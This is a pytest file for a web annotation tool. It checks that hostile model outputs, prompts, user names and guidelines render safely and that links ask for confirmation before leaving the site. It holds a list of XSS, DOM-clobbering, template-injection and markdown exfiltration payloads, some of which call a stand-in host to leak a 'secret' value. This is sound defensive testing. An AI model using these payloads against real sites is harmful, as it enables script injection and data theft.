"""What models and people write is hostile: no dialog, no violation, no request elsewhere, wherever it is shown.

`make_site` fails a test where any page of it did one of these.
"""

from __future__ import annotations

from typing import Any

import pytest
from browsing import press, submitted, until

from prefloop.types import Completion, Item, Message, Prompt
from prefloop.web.views.formulas import ELEMENTS

pytestmark = pytest.mark.slow

EVIL = "http://127.0.0.1:9"
# fmt: skip
PAYLOADS = [
    f"<script>alert(1)</script><script src={EVIL}/x.js></script>",
    f"<img src=x onerror=alert(2)><img src={EVIL}/p.png>![x]({EVIL}/leak?q=secret)![y][r]\n\n[r]: {EVIL}/ref.png",
    f"<svg onload=alert(3)><use href='{EVIL}/s.svg#x'/></svg><svg><style>*{{background:url({EVIL}/a)}}</style></svg>",
    f"<style>@import '{EVIL}/s.css'; body{{display:none}}</style><link rel=stylesheet href={EVIL}/l.css>",
    "<a href='javascript:alert(4)'>a</a> [b](javascript:alert(5)) [c](JaVaScRiPt:alert(6)) "
    "[d](data:text/html,<script>) [e](vbscript:x) <javascript:alert(7)> "
    "[f](java\tscript:alert(8)) [g](&#106;avascript:alert(9))",
    f"<iframe src={EVIL}></iframe><object data={EVIL}></object><embed src={EVIL}>"
    f"<form action={EVIL}><input name=x></form>",
    "<div id=rank data-rules='{}' data-mode=evil><form id=work><input name=dataset></form><a id=task href=//x>t</a>"
    "<img name=body><img name=querySelector><input id=comment name=attributes></div>",
    "</pre></div></article></main><script>alert(10)</script>"
    "<h1 onclick=alert(11) style='position:fixed;inset:0'>x</h1>",
    "\u202egnp.exe\u202c \u200bzero\u200dwidth\ufeff \u2066isolate\u2069 \x1b[31mred \x07 \x00nul",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %> \"'`--><!--",
    ">" * 3000 + " deep\n" + "[" * 5000 + "\n" + "*_" * 5000 + "\n" + "- " * 500 + "x\n" + "`" * 4001,
    "Z" + "\u0336\u0353\u0489" * 300 + "algo " + "W" * 5000 + " " + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
    f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}'>"
    "<math><mtext></mtext><style><img src=x onerror=alert(12)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(13)></annotation-xml>"
    f"<maction actiontype='statusline#{EVIL}' xlink:href='javascript:alert(14)'>x</maction><mi href='{EVIL}'>x</mi>"
    r" $\text{<img src=x onerror=alert(15)>}$ $\text{&lt;script&gt;alert(16)&lt;/script&gt;}$"
    rf" $\href{{javascript:alert(17)}}{{x}}$ $\style{{background:url({EVIL}/f)}}{{x}}$ $x_1$"
    r" $$</annotation></semantics></math><script>alert(18)</script>$$ $\unicode{x3c}img src=x onerror=alert(19)>$",
]
PRESENT = (
    "() => [...document.querySelectorAll('.untrusted')].flatMap(e => [...e.querySelectorAll('*')].map(n => n.tagName))"
)
# fmt: skip
ALLOWED = {
    "P",
    "BR",
    "EM",
    "STRONG",
    "CODE",
    "PRE",
    "UL",
    "OL",
    "LI",
    "BLOCKQUOTE",
    "H1",
    "H2",
    "H3",
    "H4",
    "H5",
    "H6",
    "TABLE",
    "THEAD",
    "TBODY",
    "TR",
    "TH",
    "TD",
    "A",
    "SUP",
    "SUB",
    "HR",
    "SPAN",
    *ELEMENTS,
}


def hostile_items() -> list[Item]:
    made = []
    for n, payload in enumerate(PAYLOADS):
        texts = (payload, f"**fine** {payload}", f"fine\n\n{payload}")
        answers = tuple(Completion(f"h{n}:c{i}", text, model="secret") for i, text in enumerate(texts))
        asked = payload if n % 2 else (Message("user", payload), Message(payload[:60], payload), Message("user", "?"))
        made.append(Item(f"h{n}", Prompt(asked, system=payload if n % 3 else None), answers))
    return made


def clean(page: Any) -> None:
    assert set(page.evaluate(PRESENT)) <= ALLOWED
    assert page.locator(".untrusted [id], .untrusted [name], .untrusted [style], .untrusted [onclick]").count() == 0
    assert page.evaluate("() => getComputedStyle(document.body).display") != "none"


def test_hostile_texts_are_ranked_like_any_other(make_site: Any, said: Any, tmp_path: Any, shot: Any) -> None:
    (tmp_path / "guidelines.md").write_text("# Guide\n\n" + "\n\n".join(PAYLOADS), encoding="utf-8")
    site = make_site(hostile_items(), criterion="<b>quality</b>", attributes=("<i>help</i>",))
    page = site.rank("Ada")
    for n, payload in enumerate(PAYLOADS):
        clean(page)
        if n == 0:
            shot(page, "hostile")
        press(page, "m")
        clean(page)
        press(page, "m", "1", "2", "3", "v", "k", "v")
        page.wait_for_selector("dialog#diff[open]")
        press(page, "v", "c")
        page.keyboard.insert_text(payload[:3000].replace("\x00", ""))
        submitted(page, "Escape")
    page.wait_for_selector("#done")
    assert len(until(lambda: len(said(site)) == len(PAYLOADS) and said(site))) == len(PAYLOADS)
    page.goto(f"{site.url}/history")
    clean(page)
    page.goto(f"{site.url}/guidelines")
    clean(page)

    review = site.page("Rita")
    review.goto(f"{site.url}/review")
    clean(review)
    for item in site.server.store.items():
        review.goto(f"{site.url}/review/items/{item.id}")
        clean(review)
    review.goto(f"{site.url}/agreement")
    review.wait_for_selector("text=Krippendorff", timeout=60_000)
    clean(review)


def test_hostile_names_are_only_names(make_site: Any) -> None:
    site = make_site([])
    for n, name in enumerate(
        (f"<script>alert({1})</script>", "<img src=x onerror=alert(2)>", "a\" onmouseover='alert(3)'")
    ):
        site.server.join("annotator" if n else "reviewer", name)
        page = site.page(name)
        page.goto(f"{site.url}/account")
        assert name in page.inner_text("header")
    owner = site.page("Olga")
    for path in ("/people", "/audit", "/agreement"):
        owner.goto(site.url + path)


def test_a_link_asks_before_it_leaves(make_site: Any, shot: Any) -> None:
    texts = ("Look at [my bank](https://bank.example/login?x=1).", "Nothing here.")
    answers = tuple(Completion(f"l:c{i}", text) for i, text in enumerate(texts))
    site = make_site([Item("l", Prompt("Where?"), answers)])
    page = site.rank("Ada")
    page.click(".card a")
    page.wait_for_selector("dialog.leave[open]")
    shot(page, "leave")
    assert "https://bank.example/login?x=1" in page.inner_text("dialog.leave")
    press(page, "Enter")  # The safe choice has the focus.
    page.wait_for_selector("dialog.leave", state="detached")
    link = page.locator(".card a")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    link.click(button="middle")
    page.wait_for_selector("dialog.leave[open]")
    assert page.url.endswith("/rank")


def test_the_test_itself_would_notice(make_site: Any) -> None:
    """A page with the same payloads and no protection is trouble: dialogs, requests elsewhere."""
    site = make_site([])
    page = site.page()
    page.route("**/bare", lambda route: route.fulfill(body="".join(PAYLOADS[:3]), content_type="text/html"))
    page.goto(f"{site.url}/bare")
    page.wait_for_timeout(300)
    assert {"dialog: alert 1", "dialog: alert 2"} <= set(site.trouble)
    assert any(line.startswith(f"request to {EVIL}") for line in site.trouble)
    site.trouble.clear()
